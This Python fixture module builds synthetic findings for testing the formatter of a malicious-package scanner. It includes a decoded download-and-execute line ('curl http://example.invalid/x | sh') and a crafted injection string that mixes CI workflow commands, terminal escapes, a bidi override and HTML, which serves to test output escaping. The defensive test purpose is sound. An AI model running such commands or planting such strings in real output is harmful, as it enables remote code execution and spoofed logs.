"""Hand-built findings and reports for the formatter tests (synthetic, never corpus data)."""

from __future__ import annotations

from dataclasses import replace

from mphunter_gate.types import (
    ApiCall,
    Decoded,
    Finding,
    Indicator,
    Origin,
    ParseMode,
    Report,
    ScriptAnalysis,
    ScriptKind,
    ScriptScore,
    Verdict,
    Vulnerability,
)

HOSTILE = "x\r\n::error::pwned\x1b[31m\u202e|<img src=x>`%,:"

EVIL_SHA = "ab" * 32
BENIGN_SHA = "cd" * 32


def failing_finding(name: str = "evilpkg", version: str = "1.0.0", line: int = 3) -> Finding:
    calls = (
        ApiCall("setuptools.setup", "setup.py", 30),
        ApiCall("os.path.join", "setup.py", 5),
        ApiCall("base64.b64decode", "setup.py", 12),
        ApiCall("os.system", "setup.py", 13),
    )
    analysis = ScriptAnalysis(
        path="setup.py",
        kind=ScriptKind.SETUP,
        parse=ParseMode.AST,
        sequences=(calls, calls[2:]),
        decoded=(Decoded("setup.py", 11, "base64", "curl http://example.invalid/x | sh"),),
        indicators=(Indicator("download_execute", "setup.py", 11, "curl http://x | sh"),),
    )
    init = ScriptAnalysis(
        path="evilpkg/__init__.py",
        kind=ScriptKind.INIT,
        parse=ParseMode.TOKENS,
        sequences=((ApiCall("socket.socket", "evilpkg/__init__.py", 2),),),
        error="invalid syntax",
    )
    return Finding(
        name=name,
        version=version,
        source="requirements.txt",
        verdict=Verdict.FAIL,
        score=0.97,
        reason="setup.py scores 0.970 >= threshold 0.800",
        origin=Origin("requirements.txt", line),
        sha256=EVIL_SHA,
        analyses=(analysis, init),
        scores=(
            ScriptScore("setup.py", 0.97, 0.99, 0.81, 0.12, "sample-0042/setup.py"),
            ScriptScore("evilpkg/__init__.py", 0.40, 0.5, 0.3, 0.6, None),
        ),
    )


def passing_finding(name: str = "goodpkg", version: str = "2.0") -> Finding:
    calls = (ApiCall("setuptools.setup", "setup.py", 10),)
    return Finding(
        name=name,
        version=version,
        source="requirements.txt",
        verdict=Verdict.PASS,
        score=0.10,
        reason="1 script(s) below threshold",
        origin=Origin("requirements.txt", 1),
        sha256=BENIGN_SHA,
        analyses=(ScriptAnalysis("setup.py", ScriptKind.SETUP, ParseMode.AST, (calls,)),),
        scores=(ScriptScore("setup.py", 0.10, 0.05, 0.01, 0.9, "sample-1/setup.py"),),
    )


def unscanned_finding() -> Finding:
    return Finding(
        name="mystery",
        version="0.1",
        source="requirements.txt",
        verdict=Verdict.UNSCANNED,
        score=None,
        reason="no file on the index",
        origin=Origin("requirements.txt", 2),
    )


def make_report(*findings: Finding, verdict: Verdict | None = None) -> Report:
    if verdict is None:
        bad = any(f.verdict is not Verdict.PASS for f in findings)
        verdict = Verdict.FAIL if bad else Verdict.PASS
    return Report(verdict=verdict, threshold=0.8, model_version="2025.1-test", findings=findings)


def vulnerable_finding() -> Finding:
    vuln = Vulnerability("PYSEC-0000-1", "a made-up flaw", ("CVE-0000-0001",), ("2.1",))
    return replace(passing_finding("vulnpkg", "2.0"), vulnerabilities=(vuln,))


def hostile_finding() -> Finding:
    """Every string a package controls is an injection attempt."""
    calls = (ApiCall("os.system" + HOSTILE, "setup.py" + HOSTILE, 7),)
    return Finding(
        name="bad" + HOSTILE,
        version="6.6" + HOSTILE,
        source="requirements.txt",
        verdict=Verdict.FAIL,
        score=0.99,
        reason="reason" + HOSTILE,
        origin=Origin("requirements.txt", 9),
        sha256="ef" * 32,
        analyses=(
            ScriptAnalysis(
                "setup.py",
                ScriptKind.SETUP,
                ParseMode.AST,
                (calls,),
                decoded=(Decoded("setup.py", 6, "base64", "payload" + HOSTILE),),
            ),
        ),
        scores=(ScriptScore("setup.py", 0.99, 0.99, 0.9, 0.1, "near" + HOSTILE),),
    )
